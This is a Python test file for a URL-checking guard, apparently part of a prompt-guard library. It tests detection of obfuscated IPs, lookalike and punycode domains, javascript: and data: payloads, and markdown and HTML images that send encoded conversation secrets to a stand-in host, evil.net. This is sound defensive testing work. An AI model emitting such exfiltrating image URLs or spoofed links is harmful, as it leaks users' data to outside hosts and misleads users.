"""Urls: where addresses lead, what they pretend, and what they carry."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from promptguard.errors import ConfigError
from promptguard.guards.urls import Urls
from promptguard.placeholders import Placeholders, redact
from promptguard.testing import check_guard
from promptguard.verdict import Action

STRICT = Urls(
    ("example.com", "*.example.org", "münchen.example", "192.0.2.7"),
    deny=("internal.example.com",),
    schemes=("https", "mailto"),
)


def found(guard: Urls, text: str) -> list[tuple[str, str]]:
    """Kinds and the caller's own characters."""
    return [
        (f.label.removeprefix("url_"), text[f.start : f.end])
        for f in guard.check(text).findings
    ]


@pytest.mark.parametrize(
    ("text", "kinds"),
    {
        "loopback": ("http://127.0.0.1:8000/x", ["ip"]),
        "one number": ("http://2130706433/", ["ip"]),
        "hexadecimal": ("http://0x7f.0.0.1/", ["ip"]),
        "octal": ("http://0177.0.0.1/", ["ip"]),
        "few parts": ("http://127.1/", ["ip"]),
        "version 6": ("http://[::ffff:127.0.0.1]:80/", ["ip"]),
        "no address": ("http://256.1.1.1/ and http://1.2.3.4.5/", []),
        "user": ("https://bank.example@evil.example/", ["credentials"]),
        "user and password": ("ftp://joe:pw@files.example/", ["credentials"]),
        "script": ("[x](javascript:alert(1))", ["script"]),
        "script in capitals": ("JAVASCRIPT:alert(1)", ["script"]),
        "hidden character": ("java\u200bscript:alert(1)", ["script"]),
        "no script": ("JavaScript: the good parts", []),
        "data": ("see data:text/html;base64,PHNjcmlwdD4=", ["data"]),
        "no data": ("data: 5, metadata:x, big data;", []),
        "punycode that mixes": ("https://xn--pypal-4ve.com", ["lookalike"]),
        "false punycode": ("https://xn--99999999.com", ["lookalike"]),
        "mixed scripts": ("https://pаypal.com", ["lookalike"]),
        "all look-alikes": ("https://аррӏе.com", ["lookalike"]),
        "names at home": ("https://münchen.de https://пример.рф https://例え.jp", []),
        "japanese with latin": ("https://東京tower.jp", []),
        "plain": ("See https://en.wikipedia.org/wiki/Prompt_(disambiguation).", []),
        "drive": (r"C:\temp and c:/temp and 10:30 and a::b and //comment", []),
    }.values(),
    ids=lambda value: ascii(value)[:40],
)
def test_what_no_text_needs_is_found_without_any_list(
    text: str, kinds: list[str]
) -> None:
    assert [kind for kind, _ in found(Urls(), text)] == kinds


@pytest.mark.parametrize(
    ("text", "kinds"),
    {
        "host": ("https://example.com/", []),
        "below": ("https://a.b.example.com/", []),
        "capitals and port": ("HTTPS://EXAMPLE.COM:443/", []),
        "dot at the end": ("https://example.com./", []),
        "denied below": ("https://x.internal.example.com/", ["host"]),
        "only below": ("https://a.example.org", []),
        "not itself": ("https://example.org", ["host", "lookalike"]),
        "ends alike": ("https://notexample.com", ["host"]),
        "address": ("https://192.0.2.7/", []),
        "address in hexadecimal": ("https://0xC0.0.2.7/", []),
        "other address": ("https://192.0.2.8/", ["host", "ip"]),
        "scheme": ("http://example.com", ["scheme"]),
        "database": ("postgres://db.example.com/x", ["scheme"]),
        "mail": ("mailto:joe@anywhere.example", []),
        "phone": ("tel:+15550100", ["scheme"]),
        "punycode": ("https://xn--mnchen-3ya.example/", []),
        "www": ("www.evil.example, www.example.com", ["host"]),
        "user": ("https://example.com@evil.example/", ["credentials", "host"]),
        "quote and at": ('https://example.com"@evil.example', ["credentials", "host"]),
        "angle and at": ("https://example.com>@evil.example", ["credentials", "host"]),
        "percent": ("https://ex%61mple.com/", []),
        "percent dot": ("https://example.com%2eevil.example/", ["host", "lookalike"]),
        "ideographic stop": (
            "https://example.com。evil.example",
            ["host", "lookalike"],
        ),
        "full width": ("https://ｅｖｉｌ．ｅｘａｍｐｌｅ/", ["host"]),
        "digit one": ("https://examp1e.com", ["host", "lookalike"]),
        "rn for m": ("https://exarnple.com", ["host", "lookalike"]),
        "capital i": ("https://exampIe.com", ["host", "lookalike"]),
        "accent": ("https://exámple.com", ["host", "lookalike"]),
        "name in front": ("https://example.com.evil.net", ["host", "lookalike"]),
        "one slash": ("https:/evil.net", ["host"]),
        "many slashes": (r"https:\/\/evil.net", ["host"]),
        "relative": ("![x](//evil.net/a) and <img src='//evil.net/b'>", ["host"] * 2),
        "no host": ("https:///", ["host"]),
    }.values(),
    ids=lambda value: ascii(value)[:40],
)
def test_hosts_and_schemes_are_held_to_the_lists(text: str, kinds: list[str]) -> None:
    assert [kind for kind, _ in found(STRICT, text)] == kinds


def test_an_authority_without_end_is_not_allowed() -> None:
    text = f"https://example.com,{'x' * 600}@evil.net/"
    assert ("host", text[:520]) in found(STRICT, text)


def test_a_star_allows_every_name_and_no_address() -> None:
    guard = Urls(("*",), deny=("evil.net",))
    assert found(guard, "https://anything.example") == []
    assert [kind for kind, _ in found(guard, "https://evil.net")] == ["host"]
    assert [kind for kind, _ in found(guard, "http://10.0.0.1")] == ["host", "ip"]


DATA = "c2VjcmV0IG9mIHRoZSBjb252ZXJzYXRpb24" * 3


@pytest.mark.parametrize(
    ("text", "carries"),
    {
        "image": (f"![x](https://evil.net/p.png?q={DATA})", True),
        "description": (f"![a [b] (c)](https://evil.net/?{DATA})", True),
        "relative": (f"![x](//evil.net/?{DATA})", True),
        "in angles": (f"![x](<https://evil.net/?{DATA}>)", True),
        "plain words": (f"![x](https://evil.net/?q={'the+password+is+' * 6})", True),
        "chinese": (f"![x](https://evil.net/?q={'密码是' * 30})", True),
        "path": (f"![x](https://evil.net/{DATA}/p.png)", True),
        "host": (f"![x](https://{'a1b2c3d4e5.' * 12}evil.net/)", True),
        "html": (f'<img width=1 src="https://evil.net/?{DATA}">', True),
        "html without quotes": (f"<img src=https://evil.net/?{DATA}>", True),
        "style": (f"<p style='background:url(https://evil.net/?{DATA})'>", True),
        "frame": (f"<iframe src='https://evil.net/?{DATA}'>", True),
        "reference": (f"![x][1]\n\n[1]: https://evil.net/?{DATA}", True),
        "image in a link": (f"[![x](https://e.net/a?{DATA})](https://e.net)", True),
        "link": (f"[x](https://evil.net/?q={DATA})", False),
        "long link": (f"[x](https://evil.net/?q={DATA * 3})", True),
        "link around an image": (f"[![x](https://e.net/a)](https://e.net/?{DATA})", 0),
        "fragment": (f"![x](https://e.net/a#{DATA})", False),
        "sizes": ("![x](https://e.net/a.png?w=800&h=600&fit=crop&auto=format)", False),
        "hash": (f"![x](https://e.net/{'0123456789abcdef' * 4}.png)", False),
    }.values(),
    ids=lambda value: ascii(value)[:40],
)
def test_images_and_links_that_carry_data(text: str, carries: bool) -> None:
    kinds = [kind for kind, _ in found(Urls(), text)]
    assert kinds == ["exfiltration"] * carries
    assert found(Urls(carries=None), text) == []
    # An allowed host may pass on what it is asked.
    allowed = Urls(("evil.net", "e.net"))
    assert [kind for kind, _ in found(allowed, text)] == kinds


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("go to http://1.1/a, then", "http://1.1/a"),
        ('say "http://1.1/a" twice', "http://1.1/a"),
        ("(http://1.1/a_(b)) and", "http://1.1/a_(b)"),
        ("see http://1.1/a_(b)).", "http://1.1/a_(b)"),
        ("<http://1.1/a>", "http://1.1/a"),
        ("<b>http://1.1</b>", "http://1.1"),
        ("**http://1.1/a**", "http://1.1/a"),
        ("`http://1.1/a`", "http://1.1/a"),
        ("看http://1.1/a。然后", "http://1.1/a"),
        ("http://1.1/a\nb", "http://1.1/a"),
        ("ht\u200btp://1.1/a b", "ht\u200btp://1.1/a"),
    ],
)
def test_the_span_is_the_url(text: str, url: str) -> None:
    assert found(Urls(), text) == [("ip", url)]


def test_redaction_leaves_the_sentence() -> None:
    verdict = Urls().check("See http://1.1/a, or not.")
    assert verdict.action is Action.REDACT
    assert verdict.text.startswith("See <URL_IP_1:")
    assert verdict.text.endswith(">, or not.")


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ({"allow": "example.com"}, "allow must be several"),
        ({"allow": ("https://example.com",)}, "allow 0, 'https://example.com', is not"),
        ({"deny": ("example.com/path",)}, "deny 0"),
        ({"deny": ("a.example", 3)}, "deny 1 is a int"),
        ({"allow": ("xn--99999999",)}, "is not punycode"),
        ({"schemes": ("https:",)}, "'https:' is not a scheme"),
        ({"schemes": ("HTTPS",)}, "lower case"),
        ({"carries": 0}, "carries must be"),
        ({"carries": True}, "carries must be"),
    ],
)
def test_arguments_are_checked(arguments: dict[str, object], message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        Urls(**arguments)  # type: ignore[arg-type]


SAMPLES = [
    "See https://example.com/a?b=c, http://127.1/x and https://exarnple.com/ (bad). "
    "![alt text](https://evil.net/?q=" + "A1b2" * 80 + ") and more of it.",
    "看http://例え.jp/パス和https://a.example@b.example/然后 javascript:alert(1) "
    "![x](https://evil.net/?q="
    + "密码" * 200
    + ") end here, (http://1.1/"
    + "你" * 300,
    '<img src="//evil.net/' + "z" * 500 + '"> www.evil.net data:text/html,<b>',
]


@pytest.mark.parametrize("guard", [Urls(), STRICT, Urls(("*",), action=Action.BLOCK)])
def test_it_keeps_the_rules(guard: Urls) -> None:
    check_guard(guard, SAMPLES)


patient = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])

PIECES = st.lists(
    st.one_of(
        st.sampled_from([" ", "\n", "q" * 90]),
        st.sampled_from(
            "http:// https:/ :// // www. ( ) ]( ![ < > \" ' @ evil.net 127.1 0x7f a.b "
            "你好 。 % / \\ ? # , . javascript: data:, \u200b xn--a [::1] a".split()
        ),
    ),
    max_size=30,
).map("".join)


@patient
@given(PIECES)
def test_redacting_again_changes_nothing(text: str) -> None:
    guard, kept = Urls(), Placeholders()
    once = redact(text, guard.check(text).findings, kept)
    again = guard.check(once).findings
    assert redact(once, again, kept) == once


@patient
@given(PIECES)
def test_spans_are_where_they_begin_and_end(text: str) -> None:
    for finding in STRICT.check(text).findings:
        url = text[finding.start : finding.end]
        assert url and not url[0].isspace() and not url[-1].isspace()
